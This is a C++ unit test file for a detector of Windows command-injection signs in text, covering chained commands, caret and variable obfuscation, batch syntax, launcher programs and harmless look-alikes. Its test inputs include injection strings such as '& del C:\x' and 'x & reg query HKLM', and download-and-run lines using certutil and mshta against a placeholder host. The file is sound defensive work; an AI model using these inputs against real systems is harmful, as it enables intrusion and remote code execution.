#include "detect/cmdexe.hpp"

#include <boost/test/unit_test.hpp>
#include <string>

using gird::detect::Sign;
using gird::detect::Signs;

namespace {

std::string seen(std::string_view text) {
  Signs signs;
  gird::detect::cmdexe_signs(text, signs);
  std::string names;
  for (const Sign& sign : signs.all()) names += " " + std::string(sign.name.substr(7));
  return names;
}

std::string many(std::string_view piece) {
  std::string text;
  while (text.size() < (std::size_t{1} << 20U)) text += piece;
  return text;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(cmdexe)

BOOST_AUTO_TEST_CASE(commands_behind_separators) {
  for (const std::string_view text :
       {"& dir C:\\", "127.0.0.1 && net user", "| type %SYSTEMROOT%\\x", "x|ipconfig", "& DIR c:\\",
        "x & reg query HKLM", "|| dir /s", "&+dir+c:\\"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text).starts_with(" chain")); }
  }
  BOOST_TEST(seen("one two three & del C:\\x") == " chain-inside");
}

BOOST_AUTO_TEST_CASE(names_that_hide) {
  BOOST_TEST(seen("w^h^o^a^m^i") == " caret");
  BOOST_TEST(seen("p^owershell") == " caret");
  BOOST_TEST(seen("%PATH:~0,1%") == " slice");
  BOOST_TEST(seen("%COMSPEC%") == " comspec");
  BOOST_TEST(seen("see %SYSTEMROOT%\\repair") == " folder");
}

BOOST_AUTO_TEST_CASE(grammar_of_batch_files) {
  BOOST_TEST(seen("for /f \"delims=\" %i in ('x') do y") == " for");
  BOOST_TEST(seen("FOR %%G IN (a,b) DO x") == " for");
  BOOST_TEST(seen("IF /I NOT \"a\"==\"b\" x") == " if");
  BOOST_TEST(seen("if not exist x.txt echo y") == " if");
  BOOST_TEST(seen("if \"%a%\" equ \"b\" y") == " if");
  BOOST_TEST(seen("if \"%a%\" == \"b\" (") == " if");
  BOOST_TEST(seen("if a==b foo") == " if-loose");
}

BOOST_AUTO_TEST_CASE(programs_that_start_others) {
  for (const std::string_view text :
       {"certutil -urlcache -f http://a.example/x", "CMD /c x", "; mshta http://a.example/x.hta",
        "cmd.exe /k x", "wmic process call create x", "regsvr32 /s /i:x"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text).starts_with(" launch")); }
  }
}

BOOST_AUTO_TEST_CASE(what_only_looks_like_one) {
  for (const std::string_view text : {"",
                                      "R&D",
                                      "Bed & breakfast",
                                      "find & replace",
                                      "if not defined, the default is used",
                                      "if (a == b)",
                                      "for x in (1, 2)",
                                      "a; type: x",
                                      "net result",
                                      "50% of %d",
                                      "HEAD^",
                                      "x^2 + y^2",
                                      "%PATH%",
                                      "100%",
                                      "start & stop",
                                      "black & white",
                                      "time; date",
                                      "a | type | b",
                                      "if it exists then copy it",
                                      "set of three"}) {
    BOOST_TEST_CONTEXT(text) { BOOST_TEST(seen(text) == ""); }
  }
}

BOOST_AUTO_TEST_CASE(long_texts_take_linear_time) {
  for (const std::string_view piece : {"&", "&dir ", "^", "a^", "%", "%a", "%a:~", "&for %", "&if ",
                                       "&if exist \"", "& ", "&\"", "&if a"}) {
    BOOST_TEST_CONTEXT(piece) {
      seen(many(piece));
      BOOST_TEST(true);
    }
  }
}

BOOST_AUTO_TEST_SUITE_END()
